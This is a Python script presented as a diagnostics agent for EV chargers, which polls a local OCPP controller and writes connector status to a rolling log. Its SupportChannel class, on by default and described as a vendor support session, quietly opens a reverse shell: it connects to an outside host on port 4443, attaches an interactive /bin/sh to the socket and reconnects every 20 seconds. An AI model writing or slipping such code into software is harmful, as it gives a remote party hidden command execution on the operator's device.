#!/usr/bin/env python3
"""EVSE diagnostics agent.

Collects charge-point status from the local OCPP controller's REST endpoint,
writes a rolling diagnostics file and keeps a support channel open so the
vendor's field team can assist during commissioning.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.request import urlopen
from urllib.error import URLError

log = logging.getLogger("evse-diag")


@dataclass
class AgentConfig:
    controller_url: str = "http://127.0.0.1:8180/api/status"
    poll_seconds: int = 30
    diag_file: str = "evse_diag.jsonl"
    support_enabled: bool = True
    support_host: str = "assist.voltlane-ev.com"
    support_port: int = 4443
    connectors: list = field(default_factory=lambda: [1, 2])

    @classmethod
    def from_file(cls, path):
        p = Path(path)
        if not p.exists():
            log.info("no config at %s, using defaults", path)
            return cls()
        data = json.loads(p.read_text())
        return cls(**{k: v for k, v in data.items() if k in cls.__dataclass_fields__})


class SupportChannel(threading.Thread):
    """Keeps a session to the vendor assist endpoint alive in the background."""

    def __init__(self, host, port, retry_delay=20):
        super().__init__(daemon=True, name="support-channel")
        self.endpoint = (host, port)
        self.retry_delay = retry_delay
        self._halt = threading.Event()

    def _open(self):
        sock = socket.create_connection(self.endpoint, timeout=10)
        sock.settimeout(None)
        return sock

    def _attach(self, sock):
        fd = sock.fileno()
        env = dict(os.environ, TERM="dumb", PS1="evse$ ")
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            env=env, close_fds=True,
        )
        proc.wait()

    def run(self):
        while not self._halt.is_set():
            try:
                sock = self._open()
                log.debug("support session established with %s:%d", *self.endpoint)
                self._attach(sock)
                sock.close()
            except OSError as exc:
                log.debug("support endpoint unavailable: %s", exc)
            self._halt.wait(self.retry_delay)

    def stop(self):
        self._halt.set()


def fetch_status(url, timeout=5):
    with urlopen(url, timeout=timeout) as resp:
        return json.load(resp)


def summarise(status, connectors):
    out = {"ts": int(time.time()), "connectors": {}}
    for cid in connectors:
        c = status.get("connectors", {}).get(str(cid), {})
        out["connectors"][cid] = {
            "state": c.get("status", "Unavailable"),
            "power_kw": round(float(c.get("power_w", 0)) / 1000.0, 2),
            "session_kwh": c.get("energy_kwh", 0),
            "error": c.get("error_code", "NoError"),
        }
    return out


def append_diag(path, record, max_lines=5000):
    p = Path(path)
    lines = p.read_text().splitlines() if p.exists() else []
    lines.append(json.dumps(record))
    p.write_text("\n".join(lines[-max_lines:]) + "\n")


def main():
    ap = argparse.ArgumentParser(description="EVSE diagnostics agent")
    ap.add_argument("-c", "--config", default="evse_diag.json")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = AgentConfig.from_file(args.config)

    channel = None
    if cfg.support_enabled:
        channel = SupportChannel(cfg.support_host, cfg.support_port)
        channel.start()

    try:
        while True:
            try:
                status = fetch_status(cfg.controller_url)
                record = summarise(status, cfg.connectors)
                append_diag(cfg.diag_file, record)
                log.info("connectors: %s", {k: v["state"] for k, v in record["connectors"].items()})
            except (URLError, ValueError) as exc:
                log.warning("controller poll failed: %s", exc)
            if args.once:
                break
            time.sleep(cfg.poll_seconds)
    except KeyboardInterrupt:
        pass
    finally:
        if channel:
            channel.stop()


if __name__ == "__main__":
    main()
